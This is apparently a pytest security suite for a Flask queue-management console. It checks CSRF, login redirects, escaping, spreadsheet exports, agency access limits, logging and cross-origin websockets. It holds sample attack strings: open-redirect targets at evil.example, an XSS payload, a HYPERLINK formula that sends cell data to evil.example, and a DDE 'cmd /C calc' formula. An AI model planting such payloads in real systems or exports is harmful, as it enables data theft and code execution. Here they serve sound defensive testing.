"""An independent review of the web console's security, as tests: CSRF on every form,
the login's session handling and redirects, escaping of what staff type, spreadsheet
exports that cannot run formulas, a supervisor kept to their agency, no 500 from a
hand-made request, sockets that another site cannot open with the session cookie,
nothing secret in the log or the browser's cache.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from typing import Any

import pytest
import requests
import websocket
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from werkzeug.test import TestResponse

from server.models import Agency, Counter, Service, User, Zone
from server.state import AppState
from tests.conftest import Api
from tests.e2e.live import LiveServer
from tests.factories import PASSWORD, Hall

CSRF_FIELD = re.compile(r'name="csrf_token" value="([^"]+)"')
CSRF_META = re.compile(r'name="csrf-token" content="([^"]+)"')


class Browser:
    """One browser's cookie jar against the in-process app, logged in through the form."""

    def __init__(self, client: FlaskClient) -> None:
        self.client = client
        self.csrf = ""

    def log_in(self, username: str, next_path: str | None = None) -> TestResponse:
        self.csrf = _found(CSRF_FIELD, self.client.get("/login"))
        form = {"username": username, "password": PASSWORD, "csrf_token": self.csrf}
        if next_path is not None:
            form["next"] = next_path
        answer = self.client.post("/login", data=form)
        assert answer.status_code == 302, answer.get_data(as_text=True)
        self.csrf = _found(CSRF_META, self.client.get("/login", follow_redirects=True))
        return answer

    def get(self, path: str, **kwargs: Any) -> TestResponse:
        return self.client.get(path, **kwargs)

    def post(self, path: str, data: dict[str, Any], *, csrf: bool = True) -> TestResponse:
        return self.client.post(path, data={**data, "csrf_token": self.csrf} if csrf else data)


def _found(pattern: re.Pattern[str], answer: TestResponse) -> str:
    found = pattern.search(answer.get_data(as_text=True))
    assert found is not None, answer.get_data(as_text=True)[:500]
    return found.group(1)


@pytest.fixture
def admin(app: Flask) -> Browser:
    browser = Browser(app.test_client())
    browser.log_in("admin")
    return browser


@pytest.fixture
def supervisor(app: Flask) -> Browser:
    browser = Browser(app.test_client())
    browser.log_in("sup.dk")
    return browser


def _state(app: Flask) -> AppState:
    return app.extensions["antre"]  # type: ignore[no-any-return]


def _rename(app: Flask, model: type[Any], row_id: int, **values: str) -> None:
    with _state(app).db.write() as session:
        row = session.get(model, row_id)
        for key, value in values.items():
            setattr(row, key, value)


# --- CSRF and the login session --------------------------------------------------------


def _post_routes(app: Flask) -> list[str]:
    """Every state-changing URL of the console, with sample ids filled in."""
    paths = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("web.") and "POST" in (rule.methods or ()):
            sample = {name: ("2026-12-25" if name == "day" else "1") for name in rule.arguments}
            path = rule.rule
            for name, value in sample.items():
                path = re.sub(rf"<(?:[^:>]+:)?{name}>", value, path)
            paths.append(path)
    return sorted(paths)


def test_every_console_post_without_the_csrf_secret_is_refused_and_changes_nothing(
    app: Flask, admin: Browser, api: Api
) -> None:
    paths = _post_routes(app)
    assert "/admin/services/new" in paths and "/logout" in paths
    before = api.as_user("admin").get("/api/v1/config").get_json()
    for path in paths:
        # The visitor's booking and survey forms refuse it too, with their own page ("open
        # too long").
        refused = 400 if path.startswith(("/booking", "/b/", "/t/")) else 403
        forged = admin.post(path, {"name": "forged", "code": "ZZ-FORGED"}, csrf=False)
        assert forged.status_code == refused, path
        wrong = admin.client.post(
            path, data={"name": "forged"}, headers={"X-CSRF-Token": "not-the-secret"}
        )
        assert wrong.status_code == refused, path
    # Still logged in (the forged logout did nothing) and nothing changed.
    assert admin.get("/admin/services").status_code == 200
    assert api.as_user("admin").get("/api/v1/config").get_json() == before


def test_logging_out_needs_a_post_and_an_old_cookie_is_dead_afterwards(
    app: Flask, admin: Browser
) -> None:
    assert admin.get("/logout").status_code == 405
    cookie = admin.client.get_cookie("antre_session")
    assert cookie is not None
    assert admin.post("/logout", {}).status_code == 302
    replay = app.test_client()
    replay.set_cookie("antre_session", cookie.value)
    answer = replay.get("/admin/services")
    assert answer.status_code == 302 and "/login" in answer.headers["Location"]
    assert replay.get("/api/v1/auth/me").status_code == 401


def test_a_login_starts_a_fresh_session_with_a_fresh_csrf_secret(app: Flask) -> None:
    """Session fixation: whatever the browser carried before the login is not trusted."""
    browser = Browser(app.test_client())
    planted = _found(CSRF_FIELD, browser.get("/login"))
    before = browser.client.get_cookie("antre_session")
    browser.log_in("admin")
    after = browser.client.get_cookie("antre_session")
    assert browser.csrf != planted
    assert before is not None and after is not None and before.value != after.value
    refused = browser.client.post("/admin/zones/new", data={"csrf_token": planted})
    assert refused.status_code == 403


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/x",
        "https://evil.example/",
        "/\\evil.example",
        "/\\/evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "/%5C%5Cevil.example",
        "javascript:alert(1)",
        "http:/evil.example",
    ],
)
def test_the_login_redirect_stays_on_this_site(app: Flask, target: str) -> None:
    browser = Browser(app.test_client())
    answer = browser.log_in("admin", next_path=target)
    again = browser.get("/login", query_string={"next": target})
    for location in (answer.headers["Location"], again.headers["Location"]):
        # What a browser would do with it: backslashes and tabs are slashes or dropped.
        seen = location.replace("\\", "/").replace("\t", "")
        assert seen.startswith("/") and not seen.startswith("//"), location
        assert ":" not in seen.split("/")[1], location


# --- escaping ---------------------------------------------------------------------------

PAYLOAD = "\"><script>alert('x')</script><img src=x onerror=alert(1)>"


def test_what_staff_type_is_shown_as_text_on_every_page(
    app: Flask, admin: Browser, supervisor: Browser, api: Api, hall: Hall
) -> None:
    _rename(app, Service, hall.ktp, name=PAYLOAD)
    _rename(app, Agency, hall.dk, short_name=PAYLOAD, name=PAYLOAD)
    _rename(app, Counter, hall.c1, label=PAYLOAD)
    _rename(app, Zone, hall.zone_a, name=PAYLOAD)
    _rename(app, User, hall.users["petugas.dk"], display_name=PAYLOAD)
    api.as_device("kiosk").issue(hall.ktp)
    pages = [
        "/admin/agencies",
        f"/admin/agencies/{hall.dk}",
        "/admin/services",
        f"/admin/services/{hall.ktp}",
        "/admin/counters",
        f"/admin/counters/{hall.c1}",
        "/admin/zones",
        f"/admin/zones/{hall.zone_a}",
        "/reports?group=service",
        "/reports?group=agency",
        "/reports?group=counter",
        "/reports?group=officer",
        f"/reports?agency={PAYLOAD}",
        f"/login?next={PAYLOAD}",
    ]
    for browser in (admin, supervisor):
        for path in pages:
            answer = browser.get(path)
            if answer.status_code == 403:
                continue
            body = answer.get_data(as_text=True)
            assert "<script>alert" not in body, path
            assert "<img src=x" not in body, path


# --- exports a spreadsheet opens --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Buka")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def planted_formulas(app: Flask, api: Api, hall: Hall) -> None:
    """A supervisor may name a service anything: here, a formula for the admin's Excel."""
    _rename(app, Service, hall.ktp, name=FORMULA)
    _rename(app, Agency, hall.dk, short_name="@SUM(1+1)*cmd|' /C calc'!A0")
    _rename(app, Counter, hall.c1, label="+1+1")
    api.as_device("kiosk").issue(hall.ktp)


@pytest.mark.parametrize("group", ["service", "agency", "counter"])
def test_a_name_in_the_csv_is_text_never_a_formula(
    admin: Browser, planted_formulas: None, group: str
) -> None:
    answer = admin.get(f"/reports.csv?date=2026-11-30&group={group}")
    assert answer.status_code == 200
    lines = answer.get_data(as_text=True).lstrip("\ufeff").splitlines()
    for row in csv.reader(lines):
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def test_a_name_in_the_workbook_is_a_string_cell_never_a_formula(
    admin: Browser, planted_formulas: None
) -> None:
    answer = admin.get("/reports.xlsx?date=2026-11-30&group=service")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.data))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    names = [c.value for row in book.active.iter_rows() for c in row if c.value == FORMULA]
    assert names, "the service's name is still shown, as text"


# --- a supervisor's agency --------------------------------------------------------------


def test_a_supervisor_reaches_nothing_of_another_agency(
    app: Flask, supervisor: Browser, api: Api, hall: Hall
) -> None:
    other_service, other_counter = hall.pkb, hall.c4  # both Samsat's; sup.dk is Disdukcapil's
    refused_gets = [
        f"/admin/services/{other_service}",
        f"/admin/counters/{other_counter}",
        "/reports?agency=SM",
        "/reports.csv?agency=SM",
        "/reports.xlsx?agency=SM",
        "/admin/agencies",
        f"/admin/agencies/{hall.sm}",
        "/admin/zones",
        "/admin/holidays",
    ]
    for path in refused_gets:
        assert supervisor.get(path).status_code == 403, path
    for listing in ("/admin/services?agency=2", "/admin/counters?agency=2"):
        body = supervisor.get(listing).get_data(as_text=True)
        assert "SM-PKB" not in body and "Loket 4" not in body, listing
    before = api.as_user("admin").get("/api/v1/config").get_json()
    forged_posts: list[tuple[str, dict[str, Any]]] = [
        (
            f"/admin/services/{other_service}",
            {"code": "SM-PKB", "name": "taken", "prefix": "SM", "target_wait_minutes": "5"},
        ),
        (f"/admin/services/{other_service}/delete", {}),
        (
            f"/admin/counters/{other_counter}",
            {"label": "taken", "zone_id": str(hall.zone_a), "active": "on"},
        ),
        (f"/admin/counters/{other_counter}/delete", {}),
        (f"/admin/agencies/{hall.sm}", {"name": "taken", "short_name": "taken"}),
        (f"/admin/agencies/{hall.sm}/delete", {}),
    ]
    for path, form in forged_posts:
        assert supervisor.post(path, form).status_code == 403, path
    # Their own counter may not take another agency's service, nor a new one another agency.
    mixed = supervisor.post(
        f"/admin/counters/{hall.c1}",
        {
            "label": "Loket 1",
            "zone_id": str(hall.zone_a),
            "active": "on",
            f"serves_{hall.ktp}": "on",
            f"serves_{other_service}": "on",
        },
    )
    assert mixed.status_code == 422
    assert api.as_user("admin").get("/api/v1/config").get_json() == before
    made = supervisor.post(
        "/admin/counters/new",
        {"agency_id": str(hall.sm), "label": "Loket 9", "zone_id": str(hall.zone_b)},
    )
    assert made.status_code == 302
    with _state(app).db.read() as session:
        counter = session.query(Counter).filter_by(label="Loket 9").one()
        assert counter.agency_id == hall.dk


# --- hand-made requests -----------------------------------------------------------------

ODD_VALUES = [
    "",
    "x" * 3000,
    "\x00",
    "١٢",
    "-1",
    "99999999999999999999",
    "1e9",
    "NaN",
    "0x10",
    "😀" * 50,
    "\ufffd",
    "=1+1",
]
ODD_FIELDS = [
    "code",
    "name",
    "short_name",
    "colour",
    "position",
    "active",
    "agency_id",
    "prefix",
    "daily_quota",
    "target_wait_minutes",
    "typical_minutes",
    "zone_id",
    "label",
    "date",
    "open_mon",
    "from_mon",
    "to_mon",
    "serves_1",
    "order_1",
    "serves_x",
    "serves_99999999999",
]


def test_odd_form_values_never_make_a_500(admin: Browser, supervisor: Browser, hall: Hall) -> None:
    forms = [
        "/admin/agencies/new",
        f"/admin/agencies/{hall.dk}",
        "/admin/services/new",
        f"/admin/services/{hall.ktp}",
        "/admin/counters/new",
        f"/admin/counters/{hall.c1}",
        "/admin/zones/new",
        f"/admin/zones/{hall.zone_a}",
        "/admin/holidays",
        "/admin/holidays/9999-12-31",
        "/admin/holidays/0000-00-00",
    ]
    for browser in (admin, supervisor):
        for path in forms:
            for value in ODD_VALUES:
                answer = browser.post(path, {name: value for name in ODD_FIELDS})
                assert answer.status_code < 500, (path, value, answer.status_code)


@pytest.mark.parametrize(
    "query",
    [
        "date=9999-12-31",
        "date=0001-01-01",
        "period=month&month=9999-12",
        "period=month&month=0001-01",
        "period=month&month=0000-01",
        "period=range&from=9999-12-30&to=9999-12-31",
        "period=range&from=0001-01-01&to=9999-12-31",
        "date=" + "9" * 500,
        "period=%00&group=%F0%9F%98%80",
        "agency=%00",
    ],
)
def test_odd_report_queries_never_make_a_500(admin: Browser, query: str) -> None:
    for path in ("/reports", "/reports.csv", "/reports.xlsx"):
        answer = admin.get(f"{path}?{query}")
        assert answer.status_code < 500, (path, answer.status_code)


def test_an_oversized_form_is_refused_not_a_crash(admin: Browser) -> None:
    answer = admin.post("/admin/zones/new", {"name": "x" * 200_000})
    assert answer.status_code == 413


# --- what the log and the browser keep --------------------------------------------------


def test_no_token_password_or_secret_reaches_the_log(
    app: Flask, api: Api, hall: Hall, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    browser = Browser(app.test_client())
    browser.log_in("admin")
    browser.get("/admin/services")
    browser.get("/api/v1/auth/me")
    browser.post("/admin/zones/new", {"code": "log-test", "name": "Log test"})
    browser.post("/logout", {})
    cookie = browser.client.get_cookie("antre_session")
    secrets_seen = [PASSWORD, browser.csrf, hall.tokens["kiosk"]]
    if cookie is not None and cookie.value:
        secrets_seen.append(cookie.value)
    for secret in secrets_seen:
        assert secret not in caplog.text


def test_the_ticket_page_s_secret_code_is_cut_in_the_request_log(
    app: Flask, api: Api, hall: Hall, caplog: pytest.LogCaptureFixture
) -> None:
    code = api.as_device("kiosk").issue(hall.ktp)["status_code"]
    caplog.set_level(logging.INFO)
    app.test_client().get(f"/t/{code}").close()  # the body is sent: the access line is written
    assert f"GET /t/{code[:4]}… 200" in caplog.text
    assert code not in caplog.text


def test_console_pages_are_not_kept_in_the_browser_cache(admin: Browser, hall: Hall) -> None:
    for path in ("/login", "/admin/services", f"/admin/counters/{hall.c1}", "/reports"):
        answer = admin.get(path, follow_redirects=True)
        assert "no-store" in answer.headers.get("Cache-Control", ""), path


# --- sockets from another site ------------------------------------------------------------


def _console_cookie(server: LiveServer) -> str:
    http = requests.Session()
    form = http.get(f"{server.url}/login", timeout=5).text
    csrf = CSRF_FIELD.search(form)
    assert csrf is not None
    answer = http.post(
        f"{server.url}/login",
        data={"username": "admin", "password": PASSWORD, "csrf_token": csrf.group(1)},
        allow_redirects=False,
        timeout=5,
    )
    assert answer.status_code == 302
    return str(http.cookies["antre_session"])


def _socket_answer(server: LiveServer, origin: str, cookie: str | None) -> str:
    """Open Socket.IO over a raw websocket as a browser would and say what the server
    answered the namespace connect with: ``accepted``, ``refused``, or the HTTP status."""
    url = server.url.replace("http://", "ws://") + "/socket.io/?EIO=4&transport=websocket"
    header = [f"Cookie: antre_session={cookie}"] if cookie else []
    try:
        ws = websocket.create_connection(url, header=header, origin=origin, timeout=10)
    except websocket.WebSocketBadStatusException as exc:
        return f"http {exc.status_code}"
    try:
        opening = ws.recv()
        assert isinstance(opening, str) and opening.startswith("0{")
        ws.send("40" + json.dumps({}))
        while True:
            packet = ws.recv()
            if isinstance(packet, str) and packet.startswith("40"):
                return "accepted"
            if isinstance(packet, str) and packet.startswith("44"):
                return "refused"
    finally:
        ws.close()


def test_another_site_cannot_open_a_socket_with_the_console_session(
    web_server: LiveServer,
) -> None:
    cookie = _console_cookie(web_server)
    assert _socket_answer(web_server, web_server.url, cookie) == "accepted"
    assert _socket_answer(web_server, web_server.url, None) == "refused"
    for foreign in (
        "http://evil.example",
        "http://127.0.0.1.evil.example",
        web_server.url.replace("127.0.0.1", "localhost"),
        web_server.url.replace("http://", "https://"),
        "null",
    ):
        assert _socket_answer(web_server, foreign, cookie) == "http 400", foreign
